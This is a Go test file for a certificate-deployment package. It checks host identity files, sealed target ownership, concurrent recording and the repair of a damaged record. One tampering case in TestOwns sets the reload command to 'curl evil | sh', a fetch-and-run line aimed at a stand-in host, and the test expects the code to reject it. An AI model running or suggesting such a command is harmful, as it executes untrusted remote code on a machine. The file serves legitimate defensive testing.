package deploy

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// TestLocalHost: the identity is created once (0600), read back the same,
// and processes creating it at once all get the one that won.
func TestLocalHost(t *testing.T) {
	dir := t.TempDir()
	hosts := make([]Host, 8)
	errs := make([]error, len(hosts))
	var wg sync.WaitGroup
	for i := range hosts {
		wg.Add(1)
		go func() { defer wg.Done(); hosts[i], errs[i] = LocalHost(dir, "web1") }()
	}
	wg.Wait()
	for i, h := range hosts {
		if errs[i] != nil {
			t.Fatal(errs[i])
		}
		if h.ID != hosts[0].ID || string(h.key) != string(hosts[0].key) || h.Name != "web1" {
			t.Fatalf("host %d differs: %+v vs %+v", i, h, hosts[0])
		}
	}
	for _, f := range []string{HostIDFile, HostKeyFile} {
		st, err := os.Stat(filepath.Join(dir, f))
		if err != nil || st.Mode().Perm() != 0o600 {
			t.Fatalf("%s: %v %v", f, st, err)
		}
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".*tmp-*")); len(left) != 0 {
		t.Fatalf("temporary files left: %v", left)
	}
	other, err := LocalHost(t.TempDir(), "web2")
	if err != nil || other.ID == hosts[0].ID {
		t.Fatalf("a second directory got %+v, %v", other, err)
	}
}

// TestOwns: a host installs its own sealed targets and, from a store that
// is not shared, those recorded without a host; it leaves another host's,
// and refuses one naming it whose record was changed (the command, a
// path, the certificate) or forged.
func TestOwns(t *testing.T) {
	a, _ := LocalHost(t.TempDir(), "a")
	b, _ := LocalHost(t.TempDir(), "b")
	base := Target{CertFile: "/etc/tls/app.crt", KeyFile: "/etc/tls/app.key", Exec: "systemctl reload nginx"}
	own := a.Bind("c1", base)
	if ok, why := a.Owns("c1", own, true, false); !ok {
		t.Fatalf("own target refused: %s", why)
	}
	if ok, why := b.Owns("c1", own, true, false); ok || !strings.Contains(why, "belongs to host a") {
		t.Fatalf("b on a's target: %v %q", ok, why)
	}
	if own.Label() != "file:/etc/tls/app.crt (host a)" {
		t.Fatalf("label %q", own.Label())
	}
	edits := map[string]func(*Target){
		"exec":     func(t *Target) { t.Exec = "curl evil | sh" },
		"key file": func(t *Target) { t.KeyFile = "/tmp/app.key" },
		"forged":   func(t *Target) { t.Seal = strings.Repeat("0", 64) },
		"unsealed": func(t *Target) { t.Seal = "" },
	}
	for name, edit := range edits {
		x := own
		edit(&x)
		if ok, why := a.Owns("c1", x, false, false); ok || !strings.Contains(why, "not sealed") {
			t.Errorf("%s: %v %q", name, ok, why)
		}
	}
	if ok, _ := a.Owns("c2", own, false, false); ok {
		t.Error("a target moved to another certificate is installed")
	}
	if ok, _ := a.Owns("c1", base, false, false); !ok {
		t.Error("a target without a host is refused on a store that is not shared")
	}
	if ok, why := a.Owns("c1", base, true, false); ok || !strings.Contains(why, "without a host") {
		t.Errorf("a target without a host on a shared store: %v %q", ok, why)
	}
	// A store copied from another (vault migrate, restore): its unbound
	// targets may have been written by anyone with access to the source.
	if ok, why := a.Owns("c1", base, false, true); ok || !strings.Contains(why, "copied from") {
		t.Errorf("a target without a host in a copied store: %v %q", ok, why)
	}
	if ok, why := a.Owns("c1", own, false, true); !ok {
		t.Errorf("this host's sealed target in a copied store: refused (%s)", why)
	}
}

// TestRememberConcurrent: processes of one host recording targets at once
// (here goroutines, each with its own Host) lose no entry of host.targets.
func TestRememberConcurrent(t *testing.T) {
	dir := t.TempDir()
	var wg sync.WaitGroup
	for i := range 16 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			h, err := LocalHost(dir, "h")
			if err != nil {
				t.Error(err)
				return
			}
			tg := h.Bind(fmt.Sprintf("c%d", i), Target{CertFile: "/x/c.pem", KeyFile: "/x/k.pem"})
			if err := h.Remember(fmt.Sprintf("c%d", i), tg, Identity{}); err != nil {
				t.Error(err)
			}
		}()
	}
	wg.Wait()
	h, _ := LocalHost(dir, "h")
	m, err := h.readTargets()
	if err != nil || len(m) != 16 {
		t.Fatalf("host.targets holds %d entries (%v), want 16", len(m), err)
	}
}

// TestRememberRepairsDamagedRecord: a damaged host.targets refuses this
// host's targets (fail closed), and the deploy that the refusal advises
// writes a fresh record, after which its target is accepted.
func TestRememberRepairsDamagedRecord(t *testing.T) {
	dir := t.TempDir()
	h, err := LocalHost(dir, "h")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, TargetsFile), []byte(`{"x":`), 0o600); err != nil {
		t.Fatal(err)
	}
	tg := h.Bind("c1", Target{CertFile: "/x/c.pem", KeyFile: "/x/k.pem"})
	if ok, why := h.Owns("c1", tg, false, false); ok || !strings.Contains(why, "cannot be read") {
		t.Fatalf("a damaged record: %v %q, want a refusal", ok, why)
	}
	if err := h.Remember("c1", tg, Identity{}); err != nil {
		t.Fatalf("Remember over a damaged record: %v", err)
	}
	h2, _ := LocalHost(dir, "h")
	if ok, why := h2.Owns("c1", tg, false, false); !ok {
		t.Fatalf("after the repair: refused (%s)", why)
	}
}
